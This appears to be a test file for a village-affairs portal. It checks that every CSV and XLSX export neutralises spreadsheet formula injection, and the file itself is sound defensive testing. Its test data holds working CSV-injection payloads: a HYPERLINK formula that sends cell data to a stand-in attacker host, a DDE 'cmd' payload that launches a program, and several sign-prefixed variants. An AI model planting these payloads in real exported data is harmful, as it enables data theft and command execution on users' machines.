/**
 * Every CSV and XLSX the site writes neutralises formulas (issue 16 item 3): one test per exporter,
 * fed with text that a spreadsheet would evaluate — =HYPERLINK(…), +1, -1+1, @SUM(…), a TAB or CR
 * before =, and the full-width ＝ — typed where a person can type it (ledger lines, complaint
 * titles, talk notes, subsidy items, department names, area names). In a CSV each such cell must
 * come back (after CSV unquoting) with a leading ' so the spreadsheet shows it as text; in an XLSX
 * it must be a string cell, never a formula (no <f> element in the sheet). The templates, which
 * carry no one's text, hold no formula cell either. A last test finds every module that writes a
 * CSV or XLSX, so that a new exporter cannot skip this file.
 */
import { readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { eq, sql } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { areas } from '../../db/schema/areas.ts';
import { livelihoodDepartments, subsidyItems } from '../../db/schema/livelihood.ts';
import { addFundEntry, openDraft } from '../../src/lib/server/accounts/disclosures.ts';
import { walkZip } from '../../src/lib/server/attachments/archive-guard.ts';
import { fileComplaint } from '../../src/lib/server/complaints/filing.ts';
import { recordAct } from '../../src/lib/server/daily-supervision/acts.ts';
import { queryRows } from '../../src/lib/server/db.ts';
import { looksLikeFormula } from '../../src/lib/server/spreadsheet.ts';
import { actorOf } from '../support/complaint-cases.ts';
import { createHarness, type Harness } from '../support/hostile.ts';
import { signOff } from '../support/ledgers.ts';

/** What a spreadsheet would evaluate, each with a word of Chinese so that it passes as text. */
const FORMULAS = [
  '=HYPERLINK("http://evil.invalid/?d="&A1,"点击查看")',
  "=cmd|' /C calc'!A0",
  '+1+1 村干部',
  '-1+1 账目',
  '@SUM(A1:A9) 村务',
  '\t=1+1 公开',
  '\r=1+1 公示',
  '＝1+1 全角',
];

let harness: Harness;
beforeAll(async () => {
  harness = await createHarness();
});
afterAll(async () => {
  console.info(`hostile exports: ${harness?.sent} requests`);
  await harness?.test.dispose();
});

const endpoint = (loader: () => Promise<unknown>) => async () => (await loader()) as never;

/** The cells of a CSV as a spreadsheet program receives them (BOM dropped, quotes undone). */
function csvCells(text: string): string[][] {
  return parse(text.replace(/^\uFEFF/, ''), { relax_column_count: true });
}

/**
 * Every cell of a CSV that holds one of `typed` (the text as stored) must be that text behind a
 * leading quote; no cell anywhere may begin with a formula sign. Returns how many were found.
 */
function expectCsvNeutralised(text: string, typed: readonly string[]): number {
  const cells = csvCells(text).flat();
  // A number (a negative amount in a numeric column) is a number to the spreadsheet, not a formula.
  for (const cell of cells) if (!/^-?\d+(\.\d+)?$/.test(cell)) expect(looksLikeFormula(cell), `CSV cell ${JSON.stringify(cell)} would be evaluated`).toBe(false);
  let found = 0;
  for (const value of typed) {
    const cell = cells.find((candidate) => candidate === `'${value}`);
    if (cell) found += 1;
  }
  return found;
}

/** An XLSX holds no formula (<f>) in any sheet, and each cell holding one of `typed` is a string cell. */
async function expectXlsxNeutralised(bytes: Uint8Array, typed: readonly string[]): Promise<number> {
  const walked = walkZip(bytes, { maxEntries: 1000, maxInflatedBytes: 100 * 1024 * 1024 }, (name, content) => {
    if (/^xl\/worksheets\/.*\.xml$/.test(name)) expect(content.toString('utf8'), `${name} holds a formula`).not.toMatch(/<f[\s>]/);
    return undefined;
  });
  expect(walked.ok, 'the XLSX is a readable zip').toBe(true);
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(Buffer.from(bytes) as unknown as Parameters<ExcelJS.Xlsx['load']>[0]);
  let found = 0;
  workbook.eachSheet((sheet) =>
    sheet.eachRow((row) =>
      row.eachCell((cell) => {
        expect(cell.formula, `cell ${cell.address}`).toBeUndefined();
        if (typeof cell.value === 'string' && typed.includes(cell.value)) {
          expect(cell.type).toBe(ExcelJS.ValueType.String);
          found += 1;
        }
      }),
    ),
  );
  return found;
}

/** The text as the portal stores it: typed text is trimmed of blanks at its ends (TAB and CR too). */
const stored = (text: string) => text.replace(/^[\s\u200b\ufeff]+|[\s\u200b\ufeff]+$/g, '');

describe('CSV and XLSX exports neutralise formula-looking text', () => {
  it('the village funds download (CSV): summaries, counterparties, voucher numbers and decisions', async () => {
    const village = '990121001203'; // 河湾村: 2026-Q3 is ended and not yet published in the demo
    const opened = await openDraft(harness.test.db, null, village, '2026-Q3');
    if (!opened.ok) throw new Error(JSON.stringify(opened.errors));
    const accepted: string[] = [];
    for (const [index, text] of FORMULAS.entries()) {
      const entry = { entryDate: '2026-08-0' + ((index % 9) + 1), direction: 'income' as const, amountFen: 10_000 + index, subject: '其他收入', summary: text, counterparty: text, voucherNo: `记-2026Q3-0${10 + index}`, decisionRef: text, method: 'transfer' as const };
      const added = await addFundEntry(harness.test.db, null, { disclosureId: opened.value.id, entry });
      if (added.ok) accepted.push(stored(text));
    }
    expect(accepted.length, 'formula-looking text is stored as typed').toBeGreaterThanOrEqual(6);
    const published = await signOff(harness.test.db, opened.value.id, 'published');
    if (!published.ok) throw new Error(JSON.stringify(published.errors));
    const download = await import('../../src/pages/villages/[code]/download.ts');
    const answer = await harness.send(download as never, { url: `/villages/${village}/download?period=2026-Q3&format=csv`, params: { code: village }, endpoint: true });
    expect(answer.status).toBe(200);
    expect(expectCsvNeutralised(answer.text, accepted)).toBe(accepted.length);
  });

  it('the complaint queue export, CSV and XLSX: citizens’ titles', async () => {
    const titles: string[] = [];
    for (const text of FORMULAS) {
      const title = `${text} 前营村机动地`;
      const filed = await fileComplaint(harness.test.db, { category: 'assets', areaCode: '990121001201', subjectLevel: 'village_cadre', title, content: '村北机动地今年重新发包，没有公告也没有开会，直接给了村干部亲属，价格偏低。', anonymous: true });
      if (filed.ok) titles.push(stored(title));
    }
    expect(titles).toHaveLength(FORMULAS.length);
    const csv = await import('../../src/pages/staff/complaints/export.ts');
    const answer = await harness.send(csv as never, { url: '/staff/complaints/export', as: 'sanghe.jw', endpoint: true });
    expect(answer.status).toBe(200);
    expect(expectCsvNeutralised(answer.text, titles)).toBe(titles.length);
    const xlsx = await import('../../src/pages/staff/complaints/export.xlsx.ts');
    const workbook = await harness.send(xlsx as never, { url: '/staff/complaints/export.xlsx', as: 'sanghe.jw', endpoint: true, binary: true });
    expect(workbook.status).toBe(200);
    expect(await expectXlsxNeutralised(workbook.bytes!, titles)).toBe(titles.length);
  });

  it('the reminders-and-talks export (CSV): who held it and the note', async () => {
    const sanghe = await actorOf(harness.test.db, 'sanghe.jw');
    const typed: string[] = [];
    for (const text of FORMULAS) {
      // The office who held it has at most 40 characters.
      const conductedBy = text.slice(0, 36);
      const recorded = await recordAct(harness.test.db, sanghe, { heldOn: '2026-11-02', areaCode: '990121001000', category: '0', kind: 'talk', conductedBy, note: `${text} 已提醒` });
      if (!recorded.ok) throw new Error(JSON.stringify(recorded.errors));
      typed.push(stored(conductedBy), stored(`${text} 已提醒`));
    }
    const csv = await import('../../src/pages/staff/talks/export.ts');
    const answer = await harness.send(csv as never, { url: '/staff/talks/export', as: 'sanghe.jw', endpoint: true });
    expect(answer.status).toBe(200);
    expect(expectCsvNeutralised(answer.text, typed)).toBe(typed.length);
  });

  it('the complaint statistics open data (CSV): place names', async () => {
    const name = stored(FORMULAS[0]!);
    await harness.test.db.update(areas).set({ name }).where(eq(areas.code, '990121001000'));
    const api = await import('../../src/pages/api/v1/statistics/[code].ts');
    const answer = await harness.send(api as never, { url: '/api/v1/statistics/990121000000?format=csv', params: { code: '990121000000' }, endpoint: true });
    expect(answer.status).toBe(200);
    expect(expectCsvNeutralised(answer.text, [name])).toBe(1);
  });

  it('the livelihood statistics open data (CSV, county and item): item names, standards, legal bases, departments', async () => {
    const [item] = await queryRows<{ id: string; department_id: string }>(harness.test.db, sql`select i.id, i.department_id from subsidy_items i join payment_batches b on b.item_id = i.id where b.status = 'published' order by i.name limit 1`);
    // name (a short one: items' names have a length check), standard, legal basis, department.
    const typed = [stored(FORMULAS[2]!), stored(FORMULAS[0]!), stored(FORMULAS[4]!), stored(FORMULAS[5]!)];
    await harness.test.db.update(subsidyItems).set({ name: typed[0]!, standardText: typed[1]!, legalBasis: typed[2]! }).where(eq(subsidyItems.id, item!.id));
    await harness.test.db.update(livelihoodDepartments).set({ name: typed[3]! }).where(eq(livelihoodDepartments.id, item!.department_id));
    const county = await import('../../src/pages/api/v1/statistics/[code]/livelihood/index.ts');
    const overview = await harness.send(county as never, { url: '/api/v1/statistics/990121000000/livelihood?format=csv', params: { code: '990121000000' }, endpoint: true });
    expect(overview.status).toBe(200);
    expect(expectCsvNeutralised(overview.text, typed)).toBeGreaterThanOrEqual(2);
    const itemApi = await import('../../src/pages/api/v1/statistics/[code]/livelihood/[item].ts');
    const one = await harness.send(itemApi as never, { url: `/api/v1/statistics/990121000000/livelihood/${item!.id}?format=csv`, params: { code: '990121000000', item: item!.id }, endpoint: true });
    expect(one.status).toBe(200);
    expectCsvNeutralised(one.text, typed);
  });

  const TEMPLATES: Array<[string, () => Promise<unknown>, string, string]> = [
    ['the ledger import template', () => import('../../src/pages/staff/ledgers/template.ts'), '/staff/ledgers/template', 'qianying.kj'],
    ['the recipient list template', () => import('../../src/pages/staff/livelihood/template.ts'), '/staff/livelihood/template', 'sanghe.mzj'],
    ...(['deaths', 'officials', 'relatives', 'vehicles', 'businesses'] as const).map((kind): [string, () => Promise<unknown>, string, string] => [`the ${kind} registry template`, () => import('../../src/pages/staff/livelihood/registries/template.ts'), `/staff/livelihood/registries/template?kind=${kind}`, 'sanghe.jw']),
  ];
  it.each(TEMPLATES)('%s (CSV and XLSX) holds no formula cell', async (_what, load, url, as) => {
    const route = endpoint(load);
    const csv = await harness.send(await route(), { url: `${url}${url.includes('?') ? '&' : '?'}format=csv`, as, endpoint: true });
    expect(csv.status).toBe(200);
    expectCsvNeutralised(csv.text, []);
    const xlsx = await harness.send(await route(), { url: `${url}${url.includes('?') ? '&' : '?'}format=xlsx`, as, endpoint: true, binary: true });
    expect(xlsx.status).toBe(200);
    await expectXlsxNeutralised(xlsx.bytes!, []);
  });

  it('no module writes a CSV or XLSX that is not exported above', () => {
    const root = path.resolve(import.meta.dirname, '../../src');
    const writers = readdirSync(root, { recursive: true, encoding: 'utf8' })
      .filter((file) => /\.(ts|astro)$/.test(file) && !/\.test\.ts$|(^|\/)_/.test(file))
      .filter((file) => /\btoCsv\(|\btoXlsx\(|\btemplateCsv\(|\btemplateXlsx\(|xlsx\.writeBuffer\(/.test(readFileSync(path.join(root, file), 'utf8')))
      .sort();
    // Each writer, and the test above that feeds it: a new one fails here until it is tested.
    expect(writers).toEqual([
      'lib/server/accounts/export.ts', // the village funds download
      'lib/server/accounts/import/template.ts', // the ledger import template
      'lib/server/complaints/queue.ts', // the complaint queue export, CSV and XLSX
      'lib/server/daily-supervision/acts.ts', // the reminders-and-talks export
      'lib/server/livelihood/file.ts', // the recipient list and registry templates
      'lib/server/livelihood/registries.ts', // the registry templates
      'lib/server/open-data.ts', // complaint and livelihood statistics
      'lib/server/spreadsheet.ts', // the writers themselves
    ]);
  });
});
